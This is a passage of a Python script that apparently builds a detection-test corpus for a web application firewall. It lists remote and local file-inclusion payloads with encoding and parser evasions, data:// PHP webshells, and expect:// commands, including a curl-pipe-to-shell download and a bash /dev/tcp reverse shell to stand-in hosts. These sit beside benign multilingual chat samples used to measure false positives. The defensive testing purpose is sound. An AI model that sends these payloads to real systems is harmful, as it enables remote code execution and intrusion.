    "dump.sql",
    "../config.ini",
    "../../db.ini",
    "php.ini",
    "../../app.config",
    "config.inc.php.save",
    "application.yml.orig",
    ".settings.py.swp",
    # Windows/IIS
    "CONFIG.PHP.BAK",
    "web.config.old.",
    "settings.ini::$DATA",
    "CONFIG~1.BAK",
    # encoded: the dot before the extension on the wire, JSON \u escapes
    *wire("file=config.php%2ebak", "file=backup%2Esql"),
    r'{"file":"backup\u002esql"}',
    r'{"file":"..\u002fconfig.ini"}',
    # asked for directly in the URL path
    *wire("/config.php.bak", "/backup.sql", "/web.config.old"),
]

# ================================================================================================================
# rfi
# ----------------------------------------------------------------------------------------------------------------
# url-with-ip-address. Target: PHP include($_GET['page']) with allow_url_include=On fetching code from an address;
# the numeric forms are the ones inet_aton (PHP, curl, glibc getaddrinfo) and WHATWG URL parsers accept
URL_IP: list[Entry] = [
    "http://203.0.113.7/shell.txt",
    "https://198.51.100.23/x.txt",
    "http://203.0.113.7:8080/s.php",
    "http://203.0.113.7:80/shell.jpg",
    "https://[2001:db8::7]/s.txt",
    "http://198.51.100.23:8000/inc.txt",
    "https://203.0.113.7/shell.php.txt",
    # decimal, hex, octal, dotted hex, two- and three-part forms of 203.0.113.7
    "http://3405803783/s.txt",
    "http://0xcb007107/s.txt",
    "http://0313.0.0161.07/s.txt",
    "http://0xcb.0x00.0x71.0x07/s.txt",
    "http://0313.0000.0161.0007/s.txt",
    "http://0xCB.0.0x71.7/s.txt",
    "http://[0:0:0:0:0:ffff:cb00:7107]/s.txt",
    "http://203.0.28935/s.txt",
    "http://203.28935/s.txt",
    "http://[::ffff:203.0.113.7]/s.txt",
    "http://[::ffff:cb00:7107]/s.txt",
    # case-mixed scheme, credentials in the authority, an encoded path the remote server decodes
    "hTtP://203.0.113.7/s.txt",
    "HTTPS://198.51.100.23/S.TXT",
    "http://admin:admin@203.0.113.7/s.txt",
    "http://www.example.com@203.0.113.7/s.txt",
    "http://203.0.113.7/%73hell.txt",
    # PHP before 5.3.4 stops at the NUL, dropping the appended .php
    "http://203.0.113.7/s.txt\x00",
    # fullwidth scheme and slashes. Target: a Python loader that NFKC-normalises before urlopen()
    "\uff48\uff54\uff54\uff50\uff1a\uff0f\uff0f203.0.113.7\uff0fs.txt",
    # JSON \u escapes and wire encodings
    r'{"page":"http\u003a\u002f\u002f203.0.113.7\u002fshell.txt"}',
    r'{"url":"\u0068ttp://198.51.100.23/x.txt"}',
    r'{"include":"http://\u0032\u0030\u0033.0.113.7/s.txt"}',
    *wire("page=http%3A%2F%2F203.0.113.7%2Fshell.txt",
          "page=%68%74%74%70%3a%2f%2f203.0.113.7%2fs.txt",
          "include=http://203.0.113.7/s.txt%00",
          "file=http%3a%2f%2f3405803783%2fs.txt"),
]

# url-with-trailing-question-mark. Target: PHP include($_GET['page'] . '.php') with allow_url_include=On: the '?'
# turns the appended '.php' into a query string the attacker's server ignores (a '#' into a fragment)
TRAILING: list[Entry] = [
    "http://evil.example/shell.txt?",
    "http://203.0.113.7/shell.txt?",
    "https://attacker.example/x.txt?",
    "http://0xcb007107/s.txt?",
    "http://3405803783/s.txt?",
    "http://[::ffff:203.0.113.7]/s.txt?",
    "https://evil.example/s.txt?v=1",
    "http://evil.example/s.txt?cmd=id",
    "http://evil.example/s.txt??",
    "http://evil.example/s.txt?x=",
    "http://evil.example/s.txt?&",
    "http://evil.example/s.txt?page=",
    "http://evil.example/s.txt?foo=bar&baz=",
    "http://evil.example/c99.txt?x=id",
    "https://evil.example/r57.txt?",
    "http://evil.example:80/s.txt?",
    "https://evil.example/s.php.txt?",
    "http://evil.example/inc/config.txt?",
    "http://evil.example/shell.gif?",
    "http://evil.example/s.txt#",
    "https://attacker.example/x.txt#",
    # case-mixed (scheme and host are case-insensitive)
    "HTTP://EVIL.EXAMPLE/s.txt?",
    "hTTp://eViL.example/S.txt?",
    # JSON \u escapes and wire encodings
    r'{"page":"http://evil.example/s.txt\u003f"}',
    r'{"page":"http://evil.example/s.txt\u0023"}',
    r'{"include":"http://evil.example/s.txt?"}',
    r'{"template":"https:\/\/evil.example\/t.txt\u003f"}',
    *wire("page=http://evil.example/s.txt%3f",
          "page=http%3a%2f%2fevil.example%2fs.txt%3f",
          "page=http://evil.example/s.txt%23",
          "include=https://attacker.example/x.txt%3F%26",
          "page=http://evil.example/s.txt%3f%3f"),
]

# include-parameter-with-url. Target: PHP include/require of the named parameter with allow_url_include=On, and
# register_globals-era products (Mambo mosConfig_absolute_path, phpBB phpbb_root_path, $DOCUMENT_ROOT scripts)
INCLUDE_PARAM: list[Entry] = [
    "http://evil.example/includes/s.txt",
    "https://evil.example/inc.txt",
    "http://evil.example/modules/m.txt",
    *wire("page=http://evil.example/s.txt",
          "file=http://evil.example/s.txt",
          "template=https://evil.example/t.txt",
          "include=http://evil.example/s.txt",
          "path=http://evil.example/s.txt?",
          "inc=http://evil.example/s.txt",
          "module=http://evil.example/s.txt",
          "lang=http://evil.example/s.txt",
          "view=http://evil.example/s.txt",
          "layout=https://evil.example/l.txt",
          "content=http://evil.example/s.txt",
          "conf=http://evil.example/c.txt",
          "load=http://evil.example/s.txt",
          "src=http://evil.example/s.txt",
          "main=http://evil.example/s.txt",
          "show=http://evil.example/s.txt"),
    # PHP url-decodes parameter names; PHP keeps the last of duplicate parameters; slashes and scheme encoded
    *wire("pa%67e=http://evil.example/s.txt",
          "%70age=http://evil.example/s.txt",
          "page=home&page=http://evil.example/s.txt",
          "page=http:%2f%2fevil.example%2fs.txt",
          "template=https%3A%2F%2Fevil.example%2Fx.tpl"),
    # register_globals products
    *wire("mosConfig_absolute_path=http://evil.example/s.txt?",
          "phpbb_root_path=http://evil.example/s.txt?",
          "DOCUMENT_ROOT=http://evil.example/s.txt?",
          "root_path=http://evil.example/s.txt?"),
    # whole JSON documents: \u escapes and the JSON \/ escape for slashes
    r'{"template":"http://evil.example/t.html"}',
    r'{"include":"\u0068ttp://evil.example/s.txt"}',
    r'{"page":"https:\/\/evil.example\/s.txt"}',
    r'{"module":"http:\/\/203.0.113.7\/m.txt"}',
]

# off-domain-reference. Target: a server-side fetcher (template import, avatar or feed fetch, include) with an
# allowlist check the URL defeats; WHATWG URL parser (Node.js fetch/new URL, browsers) where named; a browser
# where the URL is reflected into a <script src>/<iframe src> attribute and its entities decoded
OFFDOMAIN: list[Entry] = [
    "https://evil.example/s.txt",
    "https://evil.example/payload.js",
    "https://evil.example/templates/t.j2",
    "https://cdn.evil.example/lib.js",
    "https://pastebin.example/raw/Xy7kQ2",
    "//evil.example/s.txt",
    # startswith/contains allowlists and parser differentials (PHP parse_url vs the fetcher)
    "http://trusted.example@evil.example/s.txt",
    "http://trusted.example.evil.example/s.txt",
    "http://evil.example/trusted.example/s.txt",
    "http://evil.example/?trusted.example",
    "http://evil.example#@trusted.example/",
    "http://evil.example\\@trusted.example/",
    # WHATWG leniency: backslashes, missing slashes, ideographic full stop, fullwidth letters, trailing dot, case
    "http:\\\\evil.example\\s.txt",
    "http:/evil.example/s.txt",
    "http:evil.example/s.txt",
    "https:/\\evil.example/s.txt",
    "http://evil\u3002example/s.txt",
    "http://\uff45\uff56\uff49\uff4c.example/s.txt",
    "HTTPS://EVIL.EXAMPLE/S.TXT",
    "http://evil.example./s.txt",
    "https://evil.example:443/s.txt",
    "http://EvIl.ExAmPlE/s.txt",
    # reflected into a src attribute: HTML entities the browser decodes
    "&#x68;ttps://evil.example/x.js",
    "https&colon;//evil.example/x.js",
    "https:&#x2f;&#x2f;evil.example/x.js",
    "//evil&period;example/x.js",
    # JSON \u escapes and wire encodings
    r'{"url":"https\u003a//evil.example/s.txt"}',
    r'{"avatar_url":"https://evil.example/a.svg","url":"\u002f\u002fevil.example/s.txt"}',
    *wire("url=https%3A%2F%2Fevil.example%2Fpayload.js", "url=%2f%2fevil.example%2fs.txt",
          "src=https:%2f%2fevil.example%2fx.js"),
]

# protocols. Targets: PHP stream wrappers (ftp, ftps, data, expect; names case-insensitive), PHP on Windows
# including a UNC path (works even with allow_url_include=Off) or WebDAV, libcurl (smb, tftp), Java jar: URLs,
# a browser loading a data: script
PROTOCOLS: list[Entry] = [
    "ftp://203.0.113.7/s.txt",
    "ftp://anonymous:guest@evil.example/pub/s.php",
    "FtP://evil.example/pub/s.txt",
    "ftps://evil.example/s.txt",
    "ftp://evil.example:21/s.txt",
    "smb://evil.example/share/s.php",
    "tftp://203.0.113.7/s.txt",
    # UNC and WebDAV
    "\\\\evil.example\\share\\s.php",
    "\\\\203.0.113.7\\share\\s.php",
    "//evil.example/share/s.php",
    "\\\\evil.example@SSL\\DavWWWRoot\\s.php",
    "\\\\evil.example@80\\share\\s.php",
    r'{"page":"\u005c\u005cevil.example\u005cshare\u005cs.php"}',
    *wire("page=%5c%5cevil.example%5cshare%5cs.php"),
    # data: with and without //, base64 and plain, case-mixed
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
    "data:text/plain,<?php system('id');?>",
    "DaTa://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
    "data://text/plain,<?php phpinfo();?>",
    "data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUW2NdKTs/Pg==",
    "data:application/javascript,alert(document.domain)",
    "data:text/plain;charset=utf-8,<?php system($_GET['c']);?>",
    r'{"page":"data:text/plain,\u003c?php system(\u0027id\u0027);?\u003e"}',
    *wire("page=data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8%2b"),
    # expect:// runs its argument through the shell
    "expect://id",
    "expect://ls -la /",
    "EXPECT://id",
    "expect://curl http://203.0.113.7/s|sh",
    r'{"page":"expect\u003a//id"}',
    "expect://bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
    *wire("page=expect%3a%2f%2fid"),
    # Java: a remote jar opened through the jar: handler
    "jar:http://evil.example/x.jar!/index.jsp",
    "jar:https://evil.example/t.jar!/",
    "jar:ftp://evil.example/x.jar!/",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("rce", "unix-command-injection", SEPARATORS),
    ("rce", "unix-shell-expression-evasion", EVASION),
    ("rce", "windows-cmd-injection", WINDOWS),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-names-with-paths", PATHS),
    ("rce", "reverse-shells", REVERSE),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloaders", DOWNLOADERS),
    ("rce", "file-write-via-shell", FILEWRITE),
    ("rce", "restricted-file-names-in-commands", RESTRICTED),
    ("lfi", "path-traversal", TRAVERSAL),
    ("lfi", "os-file-access", OSFILES),
    ("lfi", "absolute-paths", ABSOLUTE),
    ("lfi", "null-byte-truncation", NULLBYTE),
    ("lfi", "php-wrapper-lfi", WRAPPERS),
    ("lfi", "log-poisoning-targets", LOGS),
    ("lfi", "restricted-file-extensions", EXTENSIONS),
    ("rfi", "url-with-ip-address", URL_IP),
    ("rfi", "url-with-trailing-question-mark", TRAILING),
    ("rfi", "include-parameter-with-url", INCLUDE_PARAM),
    ("rfi", "off-domain-reference", OFFDOMAIN),
    ("rfi", "protocols", PROTOCOLS),
]


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    unique = True
    # a wire-form payload keeps its own percent-encoding, plus signs and parameter separators
    kv_safe = "=&[]._-:/'*$!(),;{}~@%+"
    raw_places = ("query", "form", "path", "rs-query", "rs-form", "rs-raw-body", "rs-path")
    names_by_category: dict[str, tuple[str, ...]] = {
        "rce": ("host", "ip", "cmd", "target", "domain", "ping", "addr", "q"),
        "lfi": ("file", "path", "page", "doc", "template", "lang", "filename", "download"),
        "rfi": ("page", "url", "include", "template", "file", "src", "load", "module"),
    }
    headers_real = ("header:User-Agent", "header:Referer", "header:X-Api-Version")
    headers_rs = ("rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Test-Header")
    raw_body_forbids = "&+%"
    xml_places = ("xml", "rs-xml", "multipart-field")
    xml_controls = "\n\t"

    def name(self, category: str, sub: str, k: int) -> str:
        names = self.names_by_category[category]
        return names[k % len(names)]

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        if payload in _WIRE:
            if payload.startswith("/"):
                return ("path",), ("rs-path",)
            return ("query", "form"), ("rs-query", "rs-raw-body", "rs-form")
        if payload.startswith("{"):
            return ("json-body",), ("rs-json-body",)
        if sub == "shellshock":
            return self.headers_real, self.headers_rs
        return self.real_cycle, self.rs_cycle

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return payload in _WIRE

    def _segment(self, p: Put) -> str:
        if p.raw:   # a wire-form path: sent as written (its own %-escapes, ';' path parameters)
            return self.enc(p.v.lstrip("/"), p.latin, "/%;:@!$&'()*+,=-._~")
        return super()._segment(p)

    def fits(self, place: str, v: str) -> bool:
        """A payload written as the wire form goes anywhere (it is already encoded as it is sent)."""
        return v in _WIRE or super().fits(place, v)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ================================================================================================================
# Benign: the same syntax where this product's users really type it. Slack messages and bios from a workspace
# that uses the weather bot (Japanese and Chinese colleagues typing fullwidth forms with their IME, emoji, rich
# text pasted with its HTML entities, links with percent-encoding, shell and PowerShell snippets between
# engineers, maths), directory searches, profiles, import file names, ordinary headers, and JSON bodies as
# clients that escape non-ASCII (and Go's encoder, which also escapes <, > and &) send them.
CHAT = [
    # the bot, in several languages and scripts
    "weather Tokyo",
    "weather 東京",
    "天気 大阪 明日は雨？",
    "weather 北京，明天怎么样？",
    "ｗｅａｔｈｅｒ　Ｓａｐｐｏｒｏ",
    "今日の気温は２５℃、湿度６０％でした",
    "明日１０：００から会議室Ａで打ち合わせです",
    "Ｑ＆Ａセッションは１５時から、資料はＰＤＦで共有します",
    "温度は°Cで表示してください、°Fは読めません😅",
    "weather São Paulo 🌧️",
    "☀️ 24°C in Lisbon today, enjoy!",
    "🌩️ storm warning for Zürich tonight, bikes inside please",
    "북쪽은 눈, 남쪽은 비 ☔ 우산 챙기세요",
    "Привет! Погода в Москве сегодня -5°C",
    "weather Mumbai, or as my mom still says, बम्बई",
    "🎉 release 3.2 is out: hourly forecasts + wind alerts",
    # rich text pasted with its entities, links with percent-encoding, Slack's own link syntax
    "Fish &amp; Chips Friday at the office, RSVP in the thread",
    "copied from the intranet: &quot;Please don&#39;t reply-all&quot;",
    "the menu says Caf&eacute; Cr&egrave;me again, the CMS double-escaped it",
    "Tom &amp; Jerry marathon tonight 📺",
    "the link is https://www.google.com/maps/search/caf%C3%A9+near+me, works on mobile",
    "https://ja.wikipedia.org/wiki/%E6%9D%B1%E4%BA%AC%E9%83%BD for the trip notes",
    "<https://status.example.com|status page> says all green",
    "<@U0123ABCD> can you check why the morning forecast job was late?",
    "our runbook is https://wiki.example.com/display/OPS/Weather+Bot+Runbook",
    "use http://localhost:8080/health to check it locally",
    "the avatar URL must be https:// now, plain http:// ones get rejected",
    # JSON and escapes, as engineers talk about them
    'API returns {"name": "J\\u00fcrgen"}, that\'s just the escaped ü, the client decodes it',
    "our JSON export escapes non-ASCII, so 東京 shows up as \\u6771\\u4eac in the raw file",
    "Go's encoder writes & as \\u0026 in JSON, that's why the diff looks weird",
    "PR: normalise fullwidth digits (１２３ → 123) in the location parser",
    "NFKC normalisation fixed the ＡＢＣ vs ABC duplicate accounts",
    # shell, PowerShell and cmd between engineers
    "run `ls -la ~/Downloads` and tell me what's there",
    "cd ../common && make test",
    "git log --oneline | head -20",
    "try `ping -c 4 8.8.8.8` from the office wifi, then traceroute",
    "grep -r \"TODO\" src/ | wc -l says 212, we have work to do",
    "the cron line is `0 6 * * * /usr/local/bin/forecast-digest`",
    "npm run build && npm test passes locally for me",
    "PowerShell: Get-ChildItem -Recurse | Measure-Object, quick way to count files",
    "on Windows it's dir /s instead of ls -R",
    "the CLI keeps its settings in $HOME/.config/weatherbot/settings.toml",
    "export TZ=Asia/Tokyo before running the report script",
    "echo $PATH shows /usr/local/bin twice, cleaning up my dotfiles",
    "curl -s 'https://api.open-meteo.com/v1/forecast?latitude=52.52&longitude=13.41' | jq .",
    "ssh deploy@10.0.4.12 then tail -f /var/log/weatherbot/app.log",
    "the .env.example file lists every variable the bot reads",
    "wget the nightly build from the releases page, the curl link redirects",
    "the template engine is Jinja, {{ city }} and {% if rain %} are the only tags we use",
    "regex for the postcode field is ^[0-9]{5}$",
    # maths, quotes, prose
    "if temp > 30 && humidity > 70 then send the heat alert",
    "x = (a + b) / 2; y = x^2 - 1",
    "2 | 6 and 3 | 6, so 6 is divisible by both",
    "50% chance of rain, 100% chance I forget my umbrella",
    "he said \"it's only drizzle\" and came back soaked",
    "'weather here' doesn't work, try 'weather Berlin'",
    "1/2 cup sugar, 3/4 cup flour, bake at 180°C",
    "score was 3:1, what a game ⚽",
    # file names and paths people mention
    "files are in C:\\Users\\maria\\Documents\\Reports on the team drive",
    "report_v2 (final) (1).xlsx is the right one, ignore the others",
    "the photo is IMG_2041.HEIC, Slack won't preview it",
    "the old README still says to edit config.ini by hand",
    "the page=2 link in the admin list is off by one",
    "ftp is gone here, use the sftp server for the big files",
    # bios
    "Site reliability at the Tokyo office 🗼 東京オフィスのSREです",
    "后端工程师，喜欢下雨天和咖啡 ☕",
    "Windows admin by day, bash scripter by night",
    "Weather nerd. Ask me about dew points 🌡️",
    "Support lead (EMEA). Fish & chips enthusiast.",
    "Frontend dev. I write too many regexes.",
]

SEARCHES = [
    "tanaka", "田中", "山田 太郎", "ｙａｍａｄａ", "ＴＡＮＡＫＡ", "王伟", "李娜", "josé", "zoë", "Müller",
    "O'Connor", "ops team", "weather", "on-call", "smith & sons", "c++", "c#", ".net", "node.js", "powershell",
    "bash", "ping", "curl", "devops", "windows admin", "linux", "sysadmin", "file share", "backup", "config",
    "template", "include", "page 2", "http", "ftp", "data team", "shell", "admin", "tokyo office", "大阪", "北京",
    "🌧️", "João", "Ørsted", "Łukasz",
]

URLS = [
    "https://ja.wikipedia.org/wiki/%E6%9D%B1%E4%BA%AC",
    "https://www.google.com/maps/place/Caf%C3%A9+de+Flore/@48.854,2.332,17z",
    "https://open-meteo.com/en/docs#latitude=35.6895&longitude=139.6917",
    "https://github.com/someone/dotfiles/blob/main/.bashrc",
    "https://learn.microsoft.com/en-us/powershell/scripting/overview",
    "https://www.gnu.org/software/bash/manual/bash.html#Shell-Expansions",
    "https://example.com/avatars/%E7%94%B0%E4%B8%AD.png",
    "https://cdn.example.com/img/profile.jpg?size=200&v=3",
    "https://www.linkedin.com/in/maria-garc%C3%ADa",
    "https://twitter.com/search?q=%23weather&src=typed_query",
    "https://zh.wikipedia.org/wiki/%E5%8C%97%E4%BA%AC%E5%B8%82",
    "https://www.jma.go.jp/bosai/forecast/#area_type=offices&area_code=130000",
    "https://en.wikipedia.org/wiki/Path_(computing)",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://owasp.org/www-community/attacks/Command_Injection",
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://www.php.net/manual/en/function.include.php",
    "https://wiki.example.com/display/OPS/Weather+Bot+Runbook",
    "https://ftp.gnu.org/gnu/bash/",
    "https://example.jp/%E3%83%97%E3%83%AD%E3%83%95%E3%82%A3%E3%83%BC%E3%83%AB",
]

PROSE = [
    "田中 太郎",
    "Ｔａｎａｋａ　Ｔａｒｏ",
    "Müller & Söhne",
    "R&D team",
    "on-call (ops)",
    "team: platform / infra",
    "users in Tokyo (東京)",
    "windows admin group",
    "bash scripting course attendees",
    "ping pong club",
    "curl up and read book club",
    "file share owners",
    "config review board",
    "template owners",
    "include in newsletter",
    "page owners for the wiki",
    "expect delays: Osaka office move",
    "data team",
    "backup contacts",
    "path to promotion mentors",
    "remote-first employees",
    "ftp migration team",
    "100% remote",
    "Q&A hosts",
    "Ｑ＆Ａ担当",
    "営業部（大阪）",
    "研发部 / 北京",
    "people who joined in 2024-06",
    "\"weather bot\" admins",
    "Jürgen's team",
    "☔ rain alert subscribers",
    "night shift (22:00–06:00)",
    "C++ / Rust guild",
    "users with .jp email",
    "dev-ops | sre",
]

PROFILES = [
    ("田中 太郎", "東京都千代田区丸の内１－１－１"),
    ("王伟", "北京市朝阳区建国路８８号"),
    ("Jürgen Müller", "Königstraße 5, Stuttgart"),
    ("María José García", "Calle Mayor 3, Madrid"),
    ("Zoë O'Connor", "Grafton St 10, Dublin"),
    ("山田　花子", "大阪府大阪市北区梅田２－４－９"),
    ("Ｓａｔｏ Ｋｅｎ", "札幌市中央区北１条西２丁目"),
    ("Łukasz Wójcik", "ul. Floriańska 12, Kraków"),
    ("Søren Ørsted", "Nørrebrogade 20, København"),
    ("Nguyễn Văn An", "12 Lê Lợi, Quận 1, TP. Hồ Chí Minh"),
    ("김민준", "서울특별시 강남구 테헤란로 152"),
    ("Ahmed Al-Farsi", "Sheikh Zayed Rd 1, Dubai"),
    ("Smith & Sons Ltd", "1 High St, Bath"),
    ("Anne-Marie D'Arcy", "Rue de Rivoli 99, Paris"),
    ("José 🌮 Tacos", "Av. Reforma 222, CDMX"),
    ("R&D Lab", "Building 3/B, Eindhoven"),
    ("Ólafur Þórsson", "Laugavegur 5, Reykjavík"),
    ("Dr. Chen (陈)", "上海市浦东新区世纪大道１００号"),
    ("Bash Street Kids Club", "Bash St 4, Dundee"),
    ("Path Finder Tours", "Pathway Rd 8, Leeds"),
]

UPLOAD_NAMES = [
    "users.csv", "users (1).csv", "ユーザー一覧.csv", "员工名单2024.csv", "Müller_team.csv",
    "import 2024-06-07 final.csv", "users_export_ＡＢＣ.csv", "新入社員リスト（６月）.csv", "team 🌤️ roster.csv",
    "contacts-é-à.csv", "USERS.CSV", "staff_list_v2.1.csv", "HR export – June.csv", "R&D members.csv",
    "tokyo+osaka.csv",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "curl/8.7.1"),
    ("User-Agent", "Wget/1.21.4"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.2"),
    ("User-Agent", "python-requests/2.32.3"),
    ("Accept-Language", "ja-JP,ja;q=0.9,en-US;q=0.8,en;q=0.7"),
    ("Accept-Language", "zh-CN,zh;q=0.9,en;q=0.8"),
    ("Referer", "https://www.google.co.jp/search?q=%E5%A4%A9%E6%B0%97+%E6%9D%B1%E4%BA%AC"),
    ("Referer", "https://app.example.com/admin/users?page=2&q=%E7%94%B0%E4%B8%AD"),
    ("Referer", "https://ja.wikipedia.org/wiki/%E6%9D%B1%E4%BA%AC%E9%83%BD"),
    ("Cookie", "session=abc123; lang=ja; tz=Asia%2FTokyo"),
    ("Cookie", "session=abc123; last_city=S%C3%A3o%20Paulo"),
    ("X-Api-Version", "2024-06-01"),
    ("If-None-Match", "W/\"1a2b-3c4d\""),
    ("X-Forwarded-For", "192.0.2.44, 198.51.100.2"),
    ("X-Request-Id", "7d9e2c41-8b3a-4f0e-9c15-2a6b8e4d1f03"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
]

# profiles as JSON clients that escape non-ASCII (Python json.dumps, Java Jackson with ESCAPE_NON_ASCII) and Go's
# encoding/json (which also writes <, > and & as \u escapes) send them
ESCAPED_DOCS: list[dict[str, str]] = [
    {"name": "Jürgen Müller", "address": "München"},
    {"name": "田中 太郎", "address": "東京都港区"},
    {"name": "王伟", "bio": "喜欢下雨天 ☔"},
    {"name": "Zoë", "bio": "Café owner ☕"},
    {"name": "Ana", "bio": "He said “hello” – then left…"},
    {"name": "Priya", "bio": "Emoji fan 😀🎉"},
    {"name": "Søren", "website": "https://example.dk/s%C3%B8ren"},
    {"name": "Ｔａｎａｋａ", "address": "渋谷区１－２－３"},
    {"name": "Lee", "bio": "line one\nline two\ttabbed"},
    {"name": "Ana", "bio": "my files live in C:\\Users\\ana\\Desktop"},
    {"name": "Sam", "bio": "quotes: \"double\" and 'single'"},
    {"name": "Ahmed", "bio": "مرحبا بكم"},
    {"name": "김민준", "address": "서울"},
    {"name": "Smith & Sons", "bio": "R&D <3 weather data"},
    {"name": "Mia", "bio": "temp < 0 means ice, temp > 30 means beach"},
    {"name": "Ken", "bio": "Q&A lead, 東京 & 大阪"},
    {"name": "Lena", "bio": "<b>Bold</b> bios are not a thing here"},
    {"name": "Omar", "bio": "cats > dogs & that's final"},
    {"name": "Yuki", "bio": "雪が好き ❄️ <3"},
    {"name": "Chen", "bio": "a && b || c is my favourite interview question"},
]


def go_json(doc: dict[str, str]) -> str:
    """JSON as Go's encoding/json writes it: non-ASCII and <, >, & as \\u escapes."""
    text = json.dumps(doc, ensure_ascii=True, separators=(",", ":"))
    return text.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")


def benign() -> Iterator[dict[str, Any]]:
    records = list(SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS))
    yield from records
    bodies: Sequence[str] = [json.dumps(doc) if i % 2 else go_json(doc) for i, doc in enumerate(ESCAPED_DOCS)]
    yield from numbered((request("POST", "/api/users", body, "application/json") for body in bodies),
                        f"{NAME}-jsonesc", len(records), "json")


if __name__ == "__main__":
    print_records(attacks(), benign())
